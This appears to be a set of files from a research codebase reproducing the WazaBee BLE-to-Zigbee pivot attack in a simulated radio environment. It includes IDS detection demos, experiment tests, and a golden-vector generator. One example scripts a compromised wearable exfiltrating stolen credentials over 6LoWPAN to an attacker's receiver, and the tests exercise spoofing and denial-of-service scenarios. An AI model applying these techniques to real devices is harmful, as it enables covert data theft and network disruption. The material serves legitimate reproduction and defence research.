    """Subscribe and yield (record, decoded MacFrame) pairs."""
    with subscribe(socket_path, fmt="jsonl", name="live-sniffer") as client:
        for record in client.frames(limit):
            psdu = bytes.fromhex(record["psdu"])
            try:
                frame = MacFrame.parse(psdu, check_fcs=record["fcs_ok"])
            except ValueError:
                continue  # corrupt capture: keep the stream alive
            yield record, frame


def main() -> None:
    with tempfile.TemporaryDirectory() as workdir, scoped():
        socket_path = f"{workdir}/wazabee.sock"
        server = SnifferServer(
            ServeConfig(
                socket_path=socket_path,
                channel=CHANNEL,
                frames=FRAMES,
                rate_fps=150.0,  # paced so a live client can keep up
                idle_timeout_s=0.0,
                spool_path=f"{workdir}/wazabee.spool",
            )
        )
        server.start()
        print(f"sniffer service up on {socket_path}")

        # Once the frame budget is spent, drain the service so every
        # subscriber's stream ends with an orderly ``bye`` — without
        # this the session idles on heartbeats and a client waiting for
        # "the rest" of the frames would wait forever.
        def _drain_when_done():
            while not server.source_finished:
                time.sleep(0.05)
            server.shutdown(drain=True)

        threading.Thread(target=_drain_when_done, daemon=True).start()

        # -- the defender's model: a pure-BLE site --------------------------
        # Nothing legitimate ever transmits on Zigbee-only bands, so the
        # baseline for them is *absence*; any streamed frame there is news.
        detector = AnomalyDetector()
        detector.train([], duration_s=10.0)

        observations = []
        decoded = 0
        for record, frame in stream_frames(socket_path, FRAMES):
            decoded += 1
            if decoded <= 3:  # show the first few decodes
                src = frame.source.address if frame.source else None
                dst = frame.destination.address if frame.destination else None
                print(
                    f"  frame seq={record['seq']} t={record['time']:.4f}s "
                    f"src=0x{src:04x} dst=0x{dst:04x} "
                    f"payload={frame.payload.hex()}"
                )
            observations.append(
                BandObservation(
                    time=record["time"],
                    band_hz=channel_frequency_hz(record["channel"]),
                    power_dbm=-40.0,  # sniffed at close range
                    duration_s=4e-3,
                )
            )
        print(f"decoded {decoded} frames from the stream")

        # -- IDS hand-off ---------------------------------------------------
        window = max(o.time for o in observations) if observations else 1.0
        alerts = detector.score(observations, duration_s=max(window, 1e-3))
        for alert in alerts:
            print(f"IDS alert [{alert.kind}] {alert.detail}")
        assert any(a.kind == "new-band" for a in alerts), (
            "a BLE-only baseline must flag Zigbee-band traffic"
        )

        ledger = server.shutdown(drain=True)
        session = ledger["sessions"]["live-sniffer"]
        print(
            f"service ledger: {ledger['produced']} produced, "
            f"{session['delivered']} delivered to this client, "
            f"{session['dropped']} dropped, {session['shed']} shed"
        )


if __name__ == "__main__":
    main()
