#!/usr/bin/env python3
"""Counter-measure demo: a multi-band spectrum IDS catching the pivot.

§VII of the paper argues for protocol-agnostic radio monitoring: model the
legitimate environment's per-band activity, then alert on deviations.  Here
a sentinel watches every Zigbee channel while a pure-BLE site operates
normally (baseline: nothing on Zigbee-only bands); when a compromised chip
starts the WazaBee pivot, energy appears on 2420 MHz and the detector
raises a "new-band" alert.

Run:  python examples/spectrum_ids.py
"""

import numpy as np

from repro.chips import Nrf52832
from repro.core.firmware import WazaBeeFirmware
from repro.dot15d4.channels import ZIGBEE_CHANNELS, channel_frequency_hz
from repro.dot15d4.frames import Address, build_data
from repro.ids import AnomalyDetector, SpectrumSentinel
from repro.radio import RfMedium, Scheduler

# Bands with no BLE counterpart: activity there is never legitimate BLE.
MONITORED_BANDS = [channel_frequency_hz(ch) for ch in ZIGBEE_CHANNELS]


def main() -> None:
    scheduler = Scheduler()
    medium = RfMedium(scheduler, rng=np.random.default_rng(0))
    sentinel = SpectrumSentinel(medium, MONITORED_BANDS, position=(1.0, 1.0))
    sentinel.start()
    detector = AnomalyDetector()

    chip = Nrf52832(medium, position=(0.0, 0.0), rng=np.random.default_rng(1))

    # -- training: legitimate BLE-only traffic -----------------------------
    print("training on 10 s of legitimate BLE advertising...")
    from repro.ble.packets import AdvNonconnInd

    adv = AdvNonconnInd(advertiser_address=bytes(6), adv_data=b"\x02\x01\x06").to_pdu()
    for i in range(100):
        scheduler.schedule(0.1 * i, lambda: chip.transmit_pdu(adv, channel=37))
    scheduler.run(10.0)
    detector.train(sentinel.observations, duration_s=10.0)
    print(f"baseline learned from {len(sentinel.observations)} observations "
          f"across {len(detector.baselines)} active bands")

    # -- attack: the same chip pivots to Zigbee ------------------------------
    print("attacker pivots the chip to Zigbee channel 14...")
    sentinel.clear()
    window_start = scheduler.now
    firmware = WazaBeeFirmware(chip, scheduler)
    frame = build_data(
        Address(pan_id=0x1234, address=0x42),
        Address(pan_id=0x1234, address=0x63),
        b"exfil", sequence_number=1,
    )
    for i in range(5):
        scheduler.schedule(
            0.5 * i, lambda i=i: firmware.send_frame(frame, channel=14)
        )
    scheduler.run(5.0)

    alerts = detector.score(
        sentinel.observations_since(window_start),
        duration_s=scheduler.now - window_start,
    )
    print(f"alerts: {len(alerts)}")
    for alert in alerts:
        print(f"  [{alert.kind}] {alert.detail} (severity {alert.severity:.1f})")
    assert any(a.kind == "new-band" for a in alerts), "pivot went undetected!"
    print("the pivot was detected by protocol-agnostic spectrum monitoring.")


if __name__ == "__main__":
    main()
