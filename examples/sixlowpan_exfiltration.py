#!/usr/bin/env python3
"""Covert exfiltration over a protocol nobody is monitoring.

The paper's introduction motivates WazaBee with exactly this: a corrupted
BLE object can "exfiltrate data to an illegitimate remote receiver ... by
communicating through a wireless protocol that is not supposed to be
monitored in the targeted environment".

Here the environment deploys *only* BLE.  A compromised BLE wearable
(nRF52832) pivots to 802.15.4 and ships stolen data as 6LoWPAN/UDP
datagrams — compressed, fragmented, checksummed IPv6 — to the attacker's
receiver van parked outside, which runs an ordinary 6LoWPAN stack on a
commodity 802.15.4 radio.  No BLE monitoring tool will ever see the data.

Run:  python examples/sixlowpan_exfiltration.py
"""

import numpy as np

from repro.chips import Nrf52832
from repro.chips.rzusbstick import Dot15d4Radio
from repro.core.firmware import WazaBeeFirmware
from repro.dot15d4.frames import Address, build_data
from repro.dot15d4.mac import MacService
from repro.radio import RfMedium, Scheduler
from repro.sixlowpan import SixLowpanAdaptation
from repro.sixlowpan.fragmentation import fragment_datagram
from repro.sixlowpan.iphc import compress_datagram, link_iid
from repro.sixlowpan.ipv6 import Ipv6Header, UdpDatagram, link_local_address

PAN = 0xC0FE
IMPLANT = Address(pan_id=PAN, address=0x0BAD)
RECEIVER = Address(pan_id=PAN, address=0x0001)
CHANNEL = 20  # 2450 MHz — shared with BLE data channel 22 (Table II)
STOLEN = (b"user=alice;badge=7731;wifi-psk=hunter2;"
          b"calendar=board-meeting-0900-room-5;") * 3  # > one frame


def main() -> None:
    scheduler = Scheduler()
    medium = RfMedium(scheduler, rng=np.random.default_rng(0))

    # The attacker's receiver outside the building: a plain 6LoWPAN node.
    sink_radio = Dot15d4Radio(medium, "receiver-van", (25.0, 0.0),
                              rng=np.random.default_rng(1))
    sink_radio.set_channel(CHANNEL)
    sink_mac = MacService(sink_radio, RECEIVER)
    sink = SixLowpanAdaptation(sink_mac)
    sink_mac.start()
    received = []
    sink.on_udp(received.append)

    # The compromised wearable inside: BLE silicon, WazaBee firmware.
    implant = Nrf52832(medium, name="wearable", position=(0.0, 0.0),
                       tx_power_dbm=4.0, rng=np.random.default_rng(2))
    firmware = WazaBeeFirmware(implant, scheduler)

    header = Ipv6Header(
        source=link_local_address(PAN, IMPLANT.address),
        destination=link_local_address(PAN, RECEIVER.address),
    )
    udp = UdpDatagram(source_port=0xF0B1, destination_port=0xF0B2,
                      payload=STOLEN)
    compressed = compress_datagram(
        header, udp.to_bytes(header),
        source_link_iid=link_iid(PAN, IMPLANT.address),
        destination_link_iid=link_iid(PAN, RECEIVER.address),
    )
    fragments = fragment_datagram(compressed, tag=1)
    print(f"stolen payload: {len(STOLEN)} bytes -> compressed 6LoWPAN "
          f"datagram: {len(compressed)} bytes -> {len(fragments)} fragments")

    for index, fragment in enumerate(fragments):
        frame = build_data(IMPLANT, RECEIVER, fragment,
                           sequence_number=index + 1, ack_request=False)
        scheduler.schedule(0.005 * index,
                           lambda f=frame: firmware.send_frame(f, CHANNEL))
    scheduler.run(0.1)

    assert received, "exfiltration failed"
    datagram = received[0]
    print(f"receiver got UDP {datagram.header.pretty_source()} -> "
          f"{datagram.header.pretty_destination()} "
          f"port {datagram.datagram.destination_port} "
          f"(checksum ok: {datagram.checksum_ok})")
    print(f"payload intact: {datagram.datagram.payload == STOLEN}")
    print("the data left the building over 802.15.4 — carried by a chip "
          "that only ever shipped with BLE firmware.")


if __name__ == "__main__":
    main()
