"""Tests for the Table III harness (small frame counts for speed)."""

import pytest

from repro.experiments.environment import TestbedProfile as Profile
from repro.experiments.environment import build_testbed
from repro.experiments.table3 import (
    ChannelResult,
    Table3Result,
    format_table3,
    run_table3,
    run_table3_cell,
)


class TestEnvironment:
    def test_build_testbed_deterministic(self):
        a = build_testbed(seed=4)
        b = build_testbed(seed=4)
        assert a.profile == b.profile
        assert a.medium.noise_floor_dbm == b.medium.noise_floor_dbm

    def test_profile_defaults_match_paper(self):
        profile = Profile()
        assert profile.distance_m == 3.0
        assert profile.wifi_channels == (6, 11)

    def test_interferers_installed(self):
        testbed = build_testbed()
        assert len(testbed.medium.interferers) == 2

    def test_device_rng_streams_independent(self):
        testbed = build_testbed(seed=1)
        a = testbed.device_rng(1).integers(0, 1000)
        b = testbed.device_rng(2).integers(0, 1000)
        assert a != b


class TestCells:
    @pytest.mark.parametrize("chip", ["nRF52832", "CC1352-R1"])
    @pytest.mark.parametrize("primitive", ["rx", "tx"])
    def test_clean_channel_mostly_valid(self, chip, primitive):
        result = run_table3_cell(chip, primitive, channel=11, frames=10, seed=1)
        assert result.total == 10
        assert result.valid >= 9

    def test_counts_partition(self):
        result = run_table3_cell("nRF52832", "rx", 17, frames=8, seed=2)
        assert result.valid + result.corrupted + result.lost == 8

    def test_valid_rate(self):
        cell = ChannelResult(channel=11, valid=98, corrupted=1, lost=1)
        assert cell.valid_rate == pytest.approx(0.98)
        assert ChannelResult(channel=11).valid_rate == 0.0

    def test_unknown_chip_rejected(self):
        with pytest.raises(ValueError):
            run_table3_cell("ESP32", "rx", 11)

    def test_unknown_primitive_rejected(self):
        with pytest.raises(ValueError):
            run_table3_cell("nRF52832", "both", 11)

    def test_seed_reproducibility(self):
        a = run_table3_cell("nRF52832", "tx", 14, frames=10, seed=5)
        b = run_table3_cell("nRF52832", "tx", 14, frames=10, seed=5)
        assert (a.valid, a.corrupted, a.lost) == (b.valid, b.corrupted, b.lost)


def _flatten(result: Table3Result):
    return {
        (chip, primitive, channel): (cell.valid, cell.corrupted, cell.lost)
        for (chip, primitive), rows in result.cells.items()
        for channel, cell in rows.items()
    }


class TestParallelRun:
    KWARGS = dict(
        frames=4,
        channels=(11, 17),
        chips=("nRF52832",),
        primitives=("rx", "tx"),
        seed=3,
    )

    def test_parallel_matches_serial_exactly(self):
        """Every cell is independently seeded via crc32(chip/primitive/
        channel), so the process fan-out must be bit-identical."""
        serial = run_table3(**self.KWARGS, workers=1)
        parallel = run_table3(**self.KWARGS, workers=2)
        assert _flatten(serial) == _flatten(parallel)
        assert serial.frames_per_cell == parallel.frames_per_cell

    def test_workers_validation(self):
        with pytest.raises(ValueError):
            run_table3(**self.KWARGS, workers=0)

    def test_cli_exposes_workers(self):
        from repro.cli import build_parser

        args = build_parser().parse_args(["table3", "--workers", "4"])
        assert args.workers == 4


class TestFullRun:
    def test_subset_run_structure(self):
        result = run_table3(
            frames=4, channels=(11, 14), chips=("nRF52832",), primitives=("rx",)
        )
        assert set(result.cells) == {("nRF52832", "rx")}
        assert set(result.cells[("nRF52832", "rx")]) == {11, 14}
        assert result.average_valid_rate("nRF52832", "rx") > 0.5

    def test_row_accessor(self):
        result = run_table3(
            frames=2, channels=(11,), chips=("nRF52832",), primitives=("rx", "tx")
        )
        row = result.row(11)
        assert set(row) == {("nRF52832", "rx"), ("nRF52832", "tx")}

    def test_format_contains_channels_and_averages(self):
        result = run_table3(
            frames=2,
            channels=(11, 12),
            chips=("nRF52832", "CC1352-R1"),
            primitives=("rx", "tx"),
        )
        text = format_table3(result)
        assert "11" in text and "12" in text
        assert "averages:" in text
        assert "nRF52832" in text and "CC1352-R1" in text


class TestWaveformCacheRegression:
    """A cold and a warm waveform cache must yield byte-identical cells."""

    def test_cold_and_warm_cache_identical(self):
        from repro.dsp.gfsk import clear_waveform_caches

        def snapshot():
            cell = run_table3_cell(
                "nRF52832", "tx", channel=15, frames=6, seed=3
            )
            return (cell.valid, cell.corrupted, cell.lost, cell.metrics)

        clear_waveform_caches()
        cold = snapshot()
        warm = snapshot()
        assert cold == warm

    def test_run_table3_cold_vs_warm_identical(self):
        from repro.dsp.gfsk import clear_waveform_caches

        def snapshot():
            result = run_table3(frames=4, channels=(12,), chips=("nRF52832",))
            return {
                key: (cell.valid, cell.corrupted, cell.lost, cell.metrics)
                for key, rows in result.cells.items()
                for cell in rows.values()
            }

        clear_waveform_caches()
        cold = snapshot()
        warm = snapshot()
        assert cold == warm
