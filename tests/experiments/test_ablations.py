"""Tests for the ablation studies."""

import pytest

from repro.experiments.ablations import (
    esb_fallback_comparison,
    gaussian_bt_sweep,
    hamming_threshold_sweep,
    modulation_index_sweep,
    whitening_strategy_check,
)


class TestBtSweep:
    def test_msk_is_error_free(self):
        rates = gaussian_bt_sweep(bt_values=(None,), num_chips=1024)
        assert rates["MSK"] == 0.0

    def test_bt_half_is_benign(self):
        """The headline approximation: BLE's BT=0.5 costs (almost) nothing."""
        rates = gaussian_bt_sweep(bt_values=(0.5,), num_chips=2048)
        assert rates["BT=0.5"] < 0.01

    def test_error_monotone_in_smearing(self):
        rates = gaussian_bt_sweep(bt_values=(0.2, 0.5, 1.0), num_chips=2048)
        assert rates["BT=0.2"] >= rates["BT=0.5"] >= rates["BT=1.0"]


class TestModulationIndexSweep:
    def test_nominal_index_is_clean(self):
        rates = modulation_index_sweep(h_values=(0.5,), num_chips=1024)
        assert rates[0.5] < 0.01

    def test_ble_tolerance_window_usable(self):
        """Anywhere in the BLE-allowed window [0.45, 0.55] the chip error
        rate stays small enough for DSSS to absorb (§IV-B1)."""
        rates = modulation_index_sweep(h_values=(0.45, 0.55), num_chips=2048)
        assert all(rate < 0.12 for rate in rates.values())


class TestHammingSweep:
    def test_perfect_at_zero_errors(self):
        acc = hamming_threshold_sweep(chip_error_rates=(0.0,), trials=100)
        assert acc[0.0] == 1.0

    def test_graceful_degradation(self):
        acc = hamming_threshold_sweep(
            chip_error_rates=(0.05, 0.3), trials=400, seed=1
        )
        assert acc[0.05] > 0.99
        assert acc[0.3] < acc[0.05]

    def test_high_error_rate_still_above_chance(self):
        acc = hamming_threshold_sweep(chip_error_rates=(0.2,), trials=400)
        assert acc[0.2] > 1 / 16


class TestEsbFallback:
    def test_le2m_beats_esb(self):
        comparison = esb_fallback_comparison(frames=12, seed=3)
        assert comparison.le2m_valid_rate >= comparison.esb_valid_rate
        assert comparison.le2m_valid_rate > 0.8
        # The fallback is degraded "but sufficient" (§VI-C).
        assert comparison.esb_valid_rate > 0.3


class TestWhiteningStrategies:
    def test_equivalence(self):
        raw, on_air, equal = whitening_strategy_check()
        assert equal
        assert raw.size == on_air.size

    @pytest.mark.parametrize("channel", [0, 8, 17, 39])
    def test_any_channel(self, channel):
        _, _, equal = whitening_strategy_check(channel_index=channel)
        assert equal
