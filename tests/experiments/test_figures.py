"""Tests for the Figure 1-3 data generators."""

import numpy as np
import pytest

from repro.experiments.figures import (
    fig1_fsk_iq,
    fig2_oqpsk_waveforms,
    fig3_constellation,
)


class TestFig1:
    def test_rotation_directions(self):
        data = fig1_fsk_iq()
        assert data["phase_one"][-1] > data["phase_one"][0]
        assert data["phase_zero"][-1] < data["phase_zero"][0]

    def test_quarter_turn_at_msk_index(self):
        data = fig1_fsk_iq(modulation_index=0.5)
        advance = data["phase_one"][-1] - data["phase_one"][0]
        assert advance == pytest.approx(np.pi / 2, rel=0.05)

    def test_unit_circle(self):
        data = fig1_fsk_iq()
        radius = np.hypot(data["i_one"], data["q_one"])
        assert np.allclose(radius, 1.0)


class TestFig2:
    def test_all_traces_present_and_aligned(self):
        data = fig2_oqpsk_waveforms()
        n = data["t"].size
        for key in ("m", "i", "q", "i_carrier", "q_carrier", "s", "envelope"):
            assert data[key].size == n

    def test_m_is_nrz_of_chips(self):
        data = fig2_oqpsk_waveforms(chips=(1, 0, 1, 1), samples_per_chip=4)
        assert data["m"][:4].tolist() == [1, 1, 1, 1]
        assert data["m"][4:8].tolist() == [-1, -1, -1, -1]

    def test_envelope_constant_in_interior(self):
        data = fig2_oqpsk_waveforms(samples_per_chip=64)
        interior = data["envelope"][128:-128]
        assert interior.min() > 0.99
        assert interior.max() < 1.01

    def test_s_equals_equation_2(self):
        data = fig2_oqpsk_waveforms()
        assert np.allclose(data["s"], data["i_carrier"] - data["q_carrier"])


class TestFig3:
    def test_four_states_on_unit_circle(self):
        data = fig3_constellation()
        assert set(data["states"]) == {"11", "01", "00", "10"}
        for point in data["states"].values():
            assert abs(point) == pytest.approx(1.0)

    def test_phase_steps_are_quarter_turns(self):
        data = fig3_constellation()
        steps = np.asarray(data["phase_steps"])
        assert np.allclose(np.abs(steps), np.pi / 2, atol=0.05)

    def test_trajectory_has_constant_envelope(self):
        data = fig3_constellation()
        trajectory = np.asarray(data["trajectory"])[128:-128]
        assert np.allclose(np.abs(trajectory), 1.0, atol=1e-6)
