"""Tests for the symmetric-pivot experiment and the data-rate requirement."""

import pytest

from repro.experiments.ablations import data_rate_requirement_check
from repro.experiments.symmetric import attempt_symmetric_pivot


class TestSymmetricPivot:
    def test_dsss_bounds_the_match(self):
        result = attempt_symmetric_pivot()
        assert 0.55 < result.match_fraction < 0.85
        assert not result.crc_ok

    def test_symbols_are_valid(self):
        result = attempt_symmetric_pivot()
        assert all(0 <= s <= 15 for s in result.symbols_used)
        # Enough symbols to cover the whole target packet.
        assert len(result.symbols_used) * 32 >= result.target_bits

    def test_custom_pdu(self):
        result = attempt_symmetric_pivot(pdu=b"\x02\x03\x01\x02\x03")
        assert result.target_bits > 0
        assert not result.crc_ok


class TestDataRateRequirement:
    def test_le2m_works_le1m_does_not(self):
        check = data_rate_requirement_check(frames=5, seed=2)
        assert check.le2m_received == check.frames
        assert check.le1m_received == 0
