"""Tests for the end-to-end scenario harnesses."""

import pytest

from repro.attacks.scenario_b import AttackPhase
from repro.experiments.scenarios import (
    build_zigbee_network,
    run_scenario_a,
    run_scenario_b,
)
from repro.experiments.environment import build_testbed


class TestNetworkHarness:
    def test_network_reports(self):
        testbed = build_testbed(seed=1)
        network = build_zigbee_network(testbed, report_interval_s=0.5)
        network.start()
        testbed.scheduler.run(2.2)
        assert len(network.coordinator.display) >= 3


class TestScenarioA:
    def test_short_run(self):
        result = run_scenario_a(duration_s=20.0, seed=7)
        # one event per 100 ms (the final tick may fall to float accumulation)
        assert result.events_total in (200, 201)
        assert result.events_on_target >= 0
        assert result.injected_received <= max(result.events_on_target, 0)

    def test_longer_run_injects(self):
        result = run_scenario_a(duration_s=60.0, seed=7)
        assert result.events_on_target >= 1
        assert result.injected_received >= 1
        # The lottery stays in the right ballpark (1/37 per event).
        assert result.hit_rate < 0.15


class TestScenarioB:
    def test_full_attack(self):
        result = run_scenario_b(duration_s=40.0, seed=5)
        assert result.final_phase is AttackPhase.DONE
        assert result.network_channel == 14
        assert result.sensor_channel_after == 26
        assert result.spoofed_entries == 5
        # The display shows essentially no legitimate data post-DoS.
        assert result.legitimate_entries <= 3
        assert any("active scan" in line for line in result.log)

    def test_seed_changes_nothing_structural(self):
        result = run_scenario_b(duration_s=40.0, seed=11)
        assert result.final_phase is AttackPhase.DONE
        assert result.sensor_channel_after == 26
