"""Golden-vector corpus generator.

Builds the frozen reference vectors under ``tests/golden/`` from the
encoding pipeline itself:

* ``table1_pn_sequences.json`` — the paper's Table I: the sixteen 32-chip
  DSSS PN sequences.
* ``algorithm1_msk.json`` — Algorithm 1's output: the 31-bit MSK encoding
  of every PN sequence, plus the WazaBee Access Address derived from
  symbol 0.
* ``tx_streams.json`` — one full transmission per 802.15.4 channel 11–26:
  a per-channel PSDU (valid FCS), its chip stream and its MSK rotation-bit
  stream, along with the channel's centre frequency.
* ``roundtrip.json`` — the noiseless capture→decode expectation for each
  TX stream: decoding the post-Access-Address bits must reproduce the
  PSDU byte-for-byte with the FCS intact.

Every value is derived deterministically (no RNG, no clock), so the
corpus regenerates byte-identically on every run; the test suite fails on
any single-bit drift between the pipeline and the files on disk.

Regenerate (only after an *intentional* encoding change) with::

    PYTHONPATH=src python tests/golden/generate.py
"""

from __future__ import annotations

import json
import pathlib
from typing import Dict

import numpy as np

from repro.core.encoding import (
    MSK_STRIDE,
    frame_to_msk_bits,
    wazabee_access_address,
    wazabee_access_address_bits,
)
from repro.core.rx import decode_payload_bits
from repro.core.tables import MSK_BITS_PER_SYMBOL, default_table
from repro.dot15d4.channels import ZIGBEE_CHANNELS, channel_frequency_hz
from repro.dot15d4.frames import Address, build_data
from repro.phy.ieee802154 import CHIPS_PER_SYMBOL, PN_SEQUENCES, Ppdu

GOLDEN_DIR = pathlib.Path(__file__).resolve().parent

_SRC = Address(pan_id=0x1234, address=0x0063)
_DST = Address(pan_id=0x1234, address=0x0042)


def _bit_string(bits) -> str:
    return "".join(str(int(b)) for b in np.asarray(bits).ravel())


def _pack_hex(bits) -> str:
    """Bits packed MSB-first into bytes, hex-encoded (compact storage)."""
    return np.packbits(np.asarray(bits, dtype=np.uint8)).tobytes().hex()


def channel_psdu(channel: int) -> bytes:
    """The per-channel golden frame: a data frame naming its channel."""
    payload = b"\x10" + bytes([channel]) + b"\x00"
    frame = build_data(
        source=_SRC,
        destination=_DST,
        payload=payload,
        sequence_number=channel,
        ack_request=False,
    )
    return frame.to_bytes()


def build_table1() -> Dict:
    return {
        "chips_per_symbol": CHIPS_PER_SYMBOL,
        "sequences": {
            str(symbol): _bit_string(PN_SEQUENCES[symbol])
            for symbol in range(16)
        },
    }


def build_algorithm1() -> Dict:
    table = default_table()
    return {
        "msk_bits_per_symbol": MSK_BITS_PER_SYMBOL,
        "access_address": f"0x{wazabee_access_address():08x}",
        "access_address_bits": _bit_string(wazabee_access_address_bits()),
        "correspondence": {
            str(symbol): _bit_string(table.msk_sequence(symbol))
            for symbol in range(16)
        },
    }


def build_tx_streams() -> Dict:
    streams = {}
    for channel in ZIGBEE_CHANNELS:
        psdu = channel_psdu(channel)
        chips = Ppdu(psdu).to_chips()
        msk_bits = frame_to_msk_bits(psdu)
        streams[str(channel)] = {
            "frequency_hz": channel_frequency_hz(channel),
            "psdu": psdu.hex(),
            "chips": _pack_hex(chips),
            "chip_count": int(chips.size),
            "msk_bits": _pack_hex(msk_bits),
            "msk_bit_count": int(msk_bits.size),
        }
    return {
        "chips_per_symbol": CHIPS_PER_SYMBOL,
        "msk_stride": MSK_STRIDE,
        "streams": streams,
    }


def build_roundtrip() -> Dict:
    cases = {}
    for channel in ZIGBEE_CHANNELS:
        psdu = channel_psdu(channel)
        bits = frame_to_msk_bits(psdu)
        # The BLE correlator locks on the Access Address — one full preamble
        # symbol — so the decoder sees the stream from the second symbol on.
        decoded = decode_payload_bits(bits[MSK_STRIDE:])
        assert decoded is not None, f"golden roundtrip failed on {channel}"
        cases[str(channel)] = {
            "psdu": decoded.psdu.hex(),
            "fcs_ok": decoded.fcs_ok,
            "sfd_index": decoded.sfd_index,
            "mean_distance": decoded.mean_distance,
            "symbol_count": len(decoded.symbols),
        }
    return {"skip_bits": MSK_STRIDE, "cases": cases}


CORPUS = {
    "table1_pn_sequences.json": build_table1,
    "algorithm1_msk.json": build_algorithm1,
    "tx_streams.json": build_tx_streams,
    "roundtrip.json": build_roundtrip,
}


def render(name: str) -> str:
    """Canonical serialisation — the byte-stability contract."""
    return json.dumps(CORPUS[name](), indent=2, sort_keys=True) + "\n"


def main() -> int:
    for name in CORPUS:
        path = GOLDEN_DIR / name
        path.write_text(render(name), encoding="utf-8")
        print(f"wrote {path}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
