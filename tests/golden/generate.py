"""Golden-vector corpus generator.

Builds the frozen reference vectors under ``tests/golden/`` from the
encoding pipeline itself:

* ``table1_pn_sequences.json`` — the paper's Table I: the sixteen 32-chip
  DSSS PN sequences.
* ``algorithm1_msk.json`` — Algorithm 1's output: the 31-bit MSK encoding
  of every PN sequence, plus the WazaBee Access Address derived from
  symbol 0.
* ``tx_streams.json`` — one full transmission per 802.15.4 channel 11–26:
  a per-channel PSDU (valid FCS), its chip stream and its MSK rotation-bit
  stream, along with the channel's centre frequency.
* ``roundtrip.json`` — the noiseless capture→decode expectation for each
  TX stream: decoding the post-Access-Address bits must reproduce the
  PSDU byte-for-byte with the FCS intact.
* ``wideband.json`` — the wideband composite: four golden PSDUs
  broadcast over all sixteen channels at once, composed into one band
  capture, split by the polyphase channelizer (``mode="time"``) and
  batch-decoded.  Stores only decision-level values (payload bytes, FCS
  verdicts, sync indices, integer LLR margins) from a fixed seed, so the
  file stays byte-stable while pinning the whole wideband receive chain.
* ``fleet.json`` — a fixed-seed 24-node / 2-PAN depletion campaign on the
  sharded medium: per-node delivery/drop/retry counters, battery curves,
  depletion times and the medium's delivery ledger.  Pins the whole fleet
  stack (topology builder, MAC, energy model, sharded delivery, merge).

Every value is derived deterministically (the wideband vector from one
pinned PCG64 seed, everything else with no RNG at all — and never from a
clock), so the corpus regenerates byte-identically on every run; the
test suite fails on any single-bit drift between the pipeline and the
files on disk.

Regenerate (only after an *intentional* encoding change) with::

    PYTHONPATH=src python tests/golden/generate.py
"""

from __future__ import annotations

import json
import pathlib
from typing import Dict

import numpy as np

from repro.core.encoding import (
    MSK_STRIDE,
    frame_to_msk_bits,
    wazabee_access_address,
    wazabee_access_address_bits,
)
from repro.core.rx import decode_payload_bits
from repro.core.tables import MSK_BITS_PER_SYMBOL, default_table
from repro.dot15d4.channels import ZIGBEE_CHANNELS, channel_frequency_hz
from repro.dot15d4.frames import Address, build_data
from repro.phy.ieee802154 import CHIPS_PER_SYMBOL, PN_SEQUENCES, Ppdu

GOLDEN_DIR = pathlib.Path(__file__).resolve().parent

_SRC = Address(pan_id=0x1234, address=0x0063)
_DST = Address(pan_id=0x1234, address=0x0042)


def _bit_string(bits) -> str:
    return "".join(str(int(b)) for b in np.asarray(bits).ravel())


def _pack_hex(bits) -> str:
    """Bits packed MSB-first into bytes, hex-encoded (compact storage)."""
    return np.packbits(np.asarray(bits, dtype=np.uint8)).tobytes().hex()


def channel_psdu(channel: int) -> bytes:
    """The per-channel golden frame: a data frame naming its channel."""
    payload = b"\x10" + bytes([channel]) + b"\x00"
    frame = build_data(
        source=_SRC,
        destination=_DST,
        payload=payload,
        sequence_number=channel,
        ack_request=False,
    )
    return frame.to_bytes()


def build_table1() -> Dict:
    return {
        "chips_per_symbol": CHIPS_PER_SYMBOL,
        "sequences": {
            str(symbol): _bit_string(PN_SEQUENCES[symbol])
            for symbol in range(16)
        },
    }


def build_algorithm1() -> Dict:
    table = default_table()
    return {
        "msk_bits_per_symbol": MSK_BITS_PER_SYMBOL,
        "access_address": f"0x{wazabee_access_address():08x}",
        "access_address_bits": _bit_string(wazabee_access_address_bits()),
        "correspondence": {
            str(symbol): _bit_string(table.msk_sequence(symbol))
            for symbol in range(16)
        },
    }


def build_tx_streams() -> Dict:
    streams = {}
    for channel in ZIGBEE_CHANNELS:
        psdu = channel_psdu(channel)
        chips = Ppdu(psdu).to_chips()
        msk_bits = frame_to_msk_bits(psdu)
        streams[str(channel)] = {
            "frequency_hz": channel_frequency_hz(channel),
            "psdu": psdu.hex(),
            "chips": _pack_hex(chips),
            "chip_count": int(chips.size),
            "msk_bits": _pack_hex(msk_bits),
            "msk_bit_count": int(msk_bits.size),
        }
    return {
        "chips_per_symbol": CHIPS_PER_SYMBOL,
        "msk_stride": MSK_STRIDE,
        "streams": streams,
    }


def build_roundtrip() -> Dict:
    cases = {}
    for channel in ZIGBEE_CHANNELS:
        psdu = channel_psdu(channel)
        bits = frame_to_msk_bits(psdu)
        # The BLE correlator locks on the Access Address — one full preamble
        # symbol — so the decoder sees the stream from the second symbol on.
        decoded = decode_payload_bits(bits[MSK_STRIDE:])
        assert decoded is not None, f"golden roundtrip failed on {channel}"
        cases[str(channel)] = {
            "psdu": decoded.psdu.hex(),
            "fcs_ok": decoded.fcs_ok,
            "sfd_index": decoded.sfd_index,
            "mean_distance": decoded.mean_distance,
            "symbol_count": len(decoded.symbols),
        }
    return {"skip_bits": MSK_STRIDE, "cases": cases}


#: Root seed of the wideband composite capture — part of the pinned
#: contract; changing it regenerates a different (equally valid) vector.
WIDEBAND_SEED = 2026

#: The four slot transmissions of the composite: each slot broadcasts the
#: golden PSDU named after one of these channels across all 16 channels.
WIDEBAND_SLOT_CHANNELS = (11, 16, 21, 26)


def wideband_decisions(mode: str = "time") -> Dict:
    """Decode the composite wideband capture; return decision-level cells.

    Shared by the generator (``mode="time"``, the pinned subsystem path)
    and the golden tests, which re-run it with ``mode="sequential"`` to
    assert the channelized decode makes exactly the decisions of the
    per-channel reference path.
    """
    from repro.chips.wideband import WidebandFrontEnd
    from repro.dsp.oqpsk import OqpskModulator
    from repro.phy.batch import decode_chip_frames

    modulator = OqpskModulator(samples_per_chip=8)
    signals = [
        modulator.modulate(Ppdu(channel_psdu(c)).to_chips()).samples
        for c in WIDEBAND_SLOT_CHANNELS
    ]
    front = WidebandFrontEnd(seed=WIDEBAND_SEED)
    captures = front.capture_slots(signals, mode=mode)
    num_slots, num_channels, n_out = captures.shape
    decoded = decode_chip_frames(
        captures.reshape(num_slots * num_channels, n_out),
        samples_per_chip=front.samples_per_chip,
    )
    cells: Dict[str, Dict] = {}
    for s, slot_channel in enumerate(WIDEBAND_SLOT_CHANNELS):
        per_channel = {}
